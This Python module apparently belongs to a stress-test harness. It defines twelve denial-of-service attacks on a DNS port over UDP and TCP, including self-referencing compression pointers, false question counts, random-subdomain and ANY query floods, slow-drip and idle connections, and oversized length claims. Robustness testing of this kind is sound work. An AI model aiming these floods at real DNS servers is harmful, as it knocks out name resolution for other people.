"""Attacks on the port for look-ups by DNS, over UDP and TCP (RFC 1035)."""

import os
import struct


def query(number, name, kind=1):
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return struct.pack(">HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def framed(message):
    return struct.pack(">H", len(message)) + message


def garbage_datagrams(storm, place):
    """Datagrams of random bytes."""
    noise = [os.urandom(512) for _ in range(64)]
    storm.datagrams(lambda number: noise[number % 64])


def pointer_loops(storm, place):
    """Names that point at themselves."""
    loop = struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c" + struct.pack(">HH", 1, 1)
    storm.datagrams(lambda _: loop)


def many_questions(storm, place):
    """Messages that claim 65535 questions and hold a few."""
    claim = struct.pack(">HHHHHH", 1, 0x0100, 0xFFFF, 0xFFFF, 0xFFFF, 0xFFFF) + b"\x01a\0\0\1\0\1" * 50
    storm.datagrams(lambda _: claim)


def query_flood(storm, place):
    """Questions for a service, as fast as they can be sent."""
    storm.datagrams(lambda number: query(number, place.name))


def random_names_flood(storm, place):
    """Questions for services that do not exist, each another."""
    storm.datagrams(lambda number: query(number, b"x%d.service.mesh" % number))


def any_flood(storm, place):
    """Questions for everything there is of a name."""
    storm.datagrams(lambda number: query(number, place.name, kind=255))


def idle_connections(storm, place):
    """Connections that say nothing."""
    storm.connections(1000)


def slow_connections(storm, place):
    """A question over TCP, a byte every half second."""
    whole = framed(query(1, place.name))
    storm.connections(500, whole[:3], lambda turn: whole[3 + turn:4 + turn] or None, every_s=0.5)


def length_claims(storm, place):
    """Messages over TCP that claim 64 KiB."""
    storm.connections(64, b"\xff\xff", bytes(65535))


def stream_flood(storm, place):
    """Questions over TCP, one behind the other."""
    storm.connections(8, b"", framed(query(1, place.name)) * 500)


def stream_unread(storm, place):
    """Questions over TCP whose answers are not read."""
    storm.connections(128, b"", framed(query(1, place.name)) * 500, reads=False)


def connection_flood(storm, place):
    """Connections, closed as soon as they are open."""
    storm.connections(64, b"\0", at_close=True)


ATTACKS = (garbage_datagrams, pointer_loops, many_questions, query_flood, random_names_flood, any_flood,
           idle_connections, slow_connections, length_claims, stream_flood, stream_unread, connection_flood)
